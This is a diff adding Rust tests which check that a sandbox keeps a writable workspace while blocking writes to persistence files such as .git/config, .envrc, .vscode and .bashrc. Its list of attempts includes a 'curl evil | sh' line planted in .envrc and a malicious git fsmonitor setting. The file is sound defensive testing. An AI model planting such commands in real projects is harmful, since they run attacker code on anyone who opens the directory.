@@ -186,6 +186,80 @@ fn a_writable_workspace_takes_writes_except_on_persistence_paths() {
 }
 
 #[test]
+fn persistence_paths_cannot_be_renamed_replaced_or_created() {
+    let workspace = tempfile::tempdir().expect("tempdir");
+    let git = workspace.path().join(".git");
+    std::fs::create_dir_all(git.join("hooks")).expect("a repository");
+    std::fs::write(git.join("config"), "[core]\n\tbare = false\n").expect("config");
+    let everyone = |path: &std::path::Path| {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).expect("chmod");
+    };
+    everyone(workspace.path());
+    everyone(&git);
+    // Each attempt prints its name when it succeeds.
+    let attempts = [
+        ("rename-git", "mv /workspace/.git /workspace/.git-old"),
+        (
+            "replace-config",
+            "echo '[core] fsmonitor = evil' > /workspace/.git/config",
+        ),
+        ("new-git-file", "echo x > /workspace/.git/fsmonitor-hook"),
+        ("create-envrc", "echo 'curl evil | sh' > /workspace/.envrc"),
+        (
+            "replace-envrc",
+            "echo x > /workspace/e && mv /workspace/e /workspace/.envrc",
+        ),
+        ("create-vscode", "mkdir -p /workspace/.vscode/x"),
+        (
+            "remove-bashrc",
+            "rm -f /workspace/.bashrc && [ ! -e /workspace/.bashrc ]",
+        ),
+        ("plain-write", "echo ok > /workspace/out.txt"),
+    ];
+    let script: String = attempts
+        .iter()
+        .map(|(name, command)| format!("({command}) 2>/dev/null && echo {name}; "))
+        .collect();
+    let plan = sh(&script)
+        .mount(workspace.path(), "/workspace", Access::ReadWrite)
+        .cwd("/workspace");
+    let text = stdout(&go(&plan));
+    for (name, _) in &attempts[..attempts.len() - 1] {
+        assert!(!text.contains(name), "{name} succeeded: {text}");
+    }
+    assert!(
+        text.contains("plain-write"),
+        "the workspace stays writable: {text}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(git.join("config")).expect("config"),
+        "[core]\n\tbare = false\n"
+    );
+    assert!(!workspace.path().join(".git-old").exists());
+    // The stand-ins for what was missing are gone again.
+    for missing in [".envrc", ".vscode", ".bashrc", ".idea"] {
+        assert!(
+            !workspace.path().join(missing).exists(),
+            "{missing} left behind"
+        );
+    }
+}
+
+#[test]
+fn a_persistence_path_that_is_a_link_is_refused() {
+    let workspace = tempfile::tempdir().expect("tempdir");
+    std::os::unix::fs::symlink("/workspace/planted", workspace.path().join(".envrc"))
+        .expect("symlink");
+    let plan = sh("echo ran")
+        .mount(workspace.path(), "/workspace", Access::ReadWrite)
+        .cwd("/workspace");
+    let backend = detect().expect("bubblewrap");
+    let refused = backend.run(&plan, b"").expect_err("refused");
+    assert!(refused.to_string().contains(".envrc"), "{refused}");
+}
+
+#[test]
 fn a_listener_on_the_hosts_loopback_is_unreachable() {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
     listener.set_nonblocking(true).expect("nonblocking");
